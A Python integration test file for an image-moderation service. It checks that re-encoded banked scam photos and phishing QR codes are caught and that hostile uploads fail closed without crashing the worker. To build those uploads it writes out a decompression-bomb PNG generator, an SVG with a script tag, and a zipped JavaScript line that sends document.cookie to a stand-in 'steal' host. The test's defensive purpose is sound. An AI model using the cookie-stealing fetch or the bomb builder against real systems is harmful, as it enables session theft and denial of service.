"""Image scorers inside a real `heron worker` (Celery, solo pool) behind a real `heron serve`,
over real Redis and PostgreSQL: what a chat service sees when it posts images to
`POST /v1/messages` and reads the verdicts from its webhook and `GET /v1/decisions/{id}`.

1. Known-bad media survives re-encoding: a bank entry added through the API catches the same
   photo re-encoded (JPEG quality 50, resized to 40 %), declared with a wrong content type, and
   hidden as the last frame of an animated GIF; the same text without the image is allowed.
   The NSFW model and the QR reader run in the worker too (a QR code to a listed phishing
   domain is a scam; a benign photo is allowed with every image scorer's version named).
2. Hostile files never cost a decision or the worker: truncated, a decompression bomb, a ZIP
   named .png, a JPEG+ZIP polyglot, SVG with a script, 1,200-frame GIF, an empty file behind a
   URL. Each message is decided with the attachment's error in its decision (fail closed: held
   for review), and the same worker process then decides an ordinary message.

Pictures: the staged public-domain photos, read in place and re-encoded here; everything
hostile is built by the test.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import threading
import zipfile
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest
from PIL import Image

from pipeline.images.pdq import hash_frame
from pipeline.scorers.links import DEFAULT_BLOCKLIST, load_blocklist
from pipeline.types import Action
from training.image.synthetic import paste, qr_rgb

pytestmark = pytest.mark.integration

PHOTOS = Path("/work/shared/data/images_public_domain")
SCORERS = '["rules", "links", "image_hash", "image_nsfw", "image_qr"]'
TEXT = "claim your prize here"


def photo(name: str) -> np.ndarray:
    return cv2.cvtColor(cv2.imread(str(PHOTOS / name), cv2.IMREAD_COLOR), cv2.COLOR_BGR2RGB)


def jpeg(rgb: np.ndarray, quality: int = 50, scale: float = 0.4) -> bytes:
    h, w = rgb.shape[:2]
    small = cv2.resize(rgb, (int(w * scale), int(h * scale)), interpolation=cv2.INTER_AREA)
    ok, buf = cv2.imencode(".jpg", cv2.cvtColor(small, cv2.COLOR_RGB2BGR), [cv2.IMWRITE_JPEG_QUALITY, quality])
    assert ok
    return buf.tobytes()


def png(rgb: np.ndarray) -> bytes:
    ok, buf = cv2.imencode(".png", cv2.cvtColor(rgb, cv2.COLOR_RGB2BGR))
    assert ok
    return buf.tobytes()


def gif(frames: list[np.ndarray]) -> bytes:
    images = [Image.fromarray(f) for f in frames]
    out = io.BytesIO()
    images[0].save(out, format="GIF", save_all=True, append_images=images[1:], duration=40, loop=0)
    return out.getvalue()


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def inline(data: bytes, content_type: str | None = None, filename: str | None = None) -> dict[str, Any]:
    att: dict[str, Any] = {"content_base64": b64(data)}
    if content_type:
        att["content_type"] = content_type
    if filename:
        att["filename"] = filename
    return att


def bomb_png(side: int = 60_000) -> bytes:
    """A valid 100-byte PNG whose header claims side x side pixels (3.6 gigapixels at 60,000)."""
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", ihdr), (b"IDAT", zlib.compress(b"\x00" * 64)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in chunks
    )


def zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.js", "fetch('https://example.invalid/steal?c=' + document.cookie)")
    return buf.getvalue()


@pytest.fixture
def file_server() -> Iterator[tuple[str, dict[str, tuple[bytes, str]]]]:
    """A tiny HTTP server for image URLs: path -> (body, content type), on 127.0.0.1."""
    files: dict[str, tuple[bytes, str]] = {}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's naming
            body, ctype = files.get(self.path, (b"not found", "text/plain"))
            self.send_response(200 if self.path in files else 404)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", files
    server.shutdown()
    server.server_close()


def start(stack: Any, receiver: Any) -> Any:
    stack.env["HERON_SCORERS"] = SCORERS
    stack.env["HERON_ALLOW_PRIVATE_IMAGE_URLS"] = "true"  # the file server listens on 127.0.0.1
    stack.start_api()
    worker = stack.start_worker("images")
    for name in ("image_hash", "image_nsfw", "image_qr"):
        assert name in worker.output(), worker.output()[-2000:]
    receiver.secret = stack.client.put("/v1/webhook", json={"url": receiver.url}).json()["secret"]
    return worker


def post_all(stack: Any, messages: dict[str, dict[str, Any]]) -> None:
    for mid, body in messages.items():
        r = stack.client.post("/v1/messages", json={"id": mid, "author": {"id": "u1"}, **body})
        assert r.status_code == 202, (mid, r.text)


def at_least_block(decision: dict[str, Any]) -> bool:
    return Action(decision["action"]).severity >= Action.BLOCK.severity


def reasons(decision: dict[str, Any]) -> str:
    return json.dumps(decision["reasons"])


def test_banked_photo_is_caught_after_reencoding_in_the_worker(stack: Any, receiver: Any) -> None:
    worker = start(stack, receiver)
    cat = photo("chelsea.png")
    r = stack.client.post("/v1/banks", json={"name": "giveaway-scams", "category": "scam", "action": "block"})
    assert r.status_code == 201, r.text
    r = stack.client.post(
        "/v1/banks/giveaway-scams/content",
        json={"entries": [{"hash": hash_frame(cat)[0], "label": "fake nitro giveaway"}]},
    )
    assert r.json() == {"added": 1, "revised": 0}

    phishing = next(d for d in ("discord-nitro.gift", "steamcommunlty.com") if d in load_blocklist(DEFAULT_BLOCKLIST))
    h, w = cat.shape[:2]
    hidden = gif([np.full((h, w, 3), 100 + k, np.uint8) for k in range(39)] + [cat])
    post_all(stack, {
        "text-only": {"text": TEXT},
        "banked": {"text": TEXT, "attachments": [inline(jpeg(cat), "image/jpeg", "cat.jpg")]},
        # the bytes decide the format, not what the sender declared
        "mislabelled": {"text": TEXT, "attachments": [inline(jpeg(cat, 60, 0.5), "text/plain", "notes.txt")]},
        "as-video": {"text": TEXT, "attachments": [inline(jpeg(cat, 70, 0.3), "video/mp4", "clip.mp4")]},
        "gif-last-frame": {"text": TEXT, "attachments": [inline(hidden, "image/gif")]},
        "qr": {"text": "scan me", "attachments": [inline(png(paste(photo("coffee.png"), qr_rgb(
            f"https://{phishing}/claim?gift=1"), (30, 30))), "image/png")]},
        "benign": {"text": "look at this launch", "attachments": [inline(jpeg(photo("rocket.jpg"), 80, 0.5))]},
    })
    got = receiver.wait_for(7, timeout=90)

    assert got["text-only"]["action"] == "allow"
    assert "image_hash" not in got["text-only"]["model_versions"]
    for mid in ("banked", "mislabelled", "as-video", "gif-last-frame"):
        d = got[mid]
        # the bank forces at least `block`; the platform policy may go further for a certain scam
        assert at_least_block(d) and d["scores"]["scam"] == 1.0, (mid, d)
        assert "giveaway-scams" in reasons(d) and "fake nitro giveaway" in reasons(d), (mid, d["reasons"])
        assert d["media"][0].get("error") is None, (mid, d["media"])
    assert got["gif-last-frame"]["media"][0]["format"] == "gif"
    # what the chat service reads back is what it was sent
    stored = stack.client.get("/v1/decisions/banked").json()
    assert (stored["action"], stored["revision"], stored["id"]) == (got["banked"]["action"], 1, got["banked"]["id"])

    qr = got["qr"]
    assert at_least_block(qr) and qr["scores"]["scam"] == 1.0, qr
    assert "(qr)" in reasons(qr) and phishing in reasons(qr)

    benign = got["benign"]
    assert benign["action"] == "allow", benign
    assert set(benign["model_versions"]) >= {"image_hash", "image_nsfw", "image_qr"}
    assert benign["scores"]["sexual"] < 0.5 and benign["missing_signals"] == []
    assert receiver.bad_signatures == 0
    assert worker.proc.poll() is None


def test_hostile_files_never_cost_a_decision_or_the_worker(
    stack: Any, receiver: Any, file_server: tuple[str, dict[str, tuple[bytes, str]]]
) -> None:
    worker = start(stack, receiver)
    base, files = file_server
    files["/empty.png"] = (b"", "image/png")
    files["/bomb.png"] = (bomb_png(), "image/png")
    good = jpeg(photo("astronaut.png"), 80, 0.5)
    ok_jpeg = jpeg(photo("coffee.png"), 80, 1.0)
    tiny_frames = [np.full((4, 4, 3), k % 251, np.uint8) for k in range(1200)]

    # An empty inline file is invalid as a whole: refused at the door with a reason.
    r = stack.client.post("/v1/messages", json={"id": "empty-inline", "text": "x",
                                                "attachments": [{"content_base64": ""}]})
    assert r.status_code == 422 and "content_base64" in r.text

    expected = {
        "truncated": ([inline(ok_jpeg[: len(ok_jpeg) * 6 // 10], "image/jpeg")], "truncated jpeg"),
        "bomb": ([inline(bomb_png(), "image/png", "small.png")], "too many pixels"),
        "zip-as-png": ([inline(zip_bytes(), "image/png", "cute.png")], "unsupported format: zip"),
        "polyglot": ([inline(ok_jpeg + zip_bytes(), "image/jpeg")], "polyglot"),
        "svg": ([inline(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
                        "image/svg+xml")], "unsupported format: svg"),
        "gif-1200-frames": ([inline(gif(tiny_frames), "image/gif")], "too many frames"),
        "empty-url": ([{"url": f"{base}/empty.png", "content_type": "image/png"}], "empty file"),
        "bomb-url": ([{"url": f"{base}/bomb.png"}], "too many pixels"),
        # a good picture next to a hostile file neither hides the file nor goes unchecked
        "mixed": ([inline(zip_bytes(), "image/png"), inline(good, "image/jpeg")], "unsupported format: zip"),
    }
    post_all(stack, {mid: {"text": "", "attachments": atts} for mid, (atts, _) in expected.items()})
    got = receiver.wait_for(len(expected), timeout=90)

    for mid, (_, why) in expected.items():
        d = got[mid]
        assert why in (d["media"][0].get("error") or ""), (mid, d["media"])
        # an image no scorer could read is a missing signal; the platform policy fails closed
        assert "image_hash" in d["missing_signals"] and d["action"] == "hold_for_review", (mid, d)
        assert stack.client.get(f"/v1/decisions/{mid}").json()["action"] == d["action"]
    mixed = got["mixed"]["media"]
    assert mixed[1].get("error") is None and mixed[1]["format"] == "jpeg" and mixed[1]["width"] > 0

    # the same worker process, still up, decides an ordinary message after all that
    assert worker.proc.poll() is None
    post_all(stack, {"after": {"text": "good morning", "attachments": [inline(good, "image/jpeg")]}})
    after = receiver.wait_for(len(expected) + 1, timeout=60)["after"]
    assert after["action"] == "allow" and after["missing_signals"] == [], after
    assert worker.proc.poll() is None
    assert "Traceback" not in worker.output() and "WorkerLostError" not in worker.output()
    assert stack.query("SELECT count(*) FROM messages WHERE status <> 'decided'")[0][0] == 0
    assert receiver.bad_signatures == 0
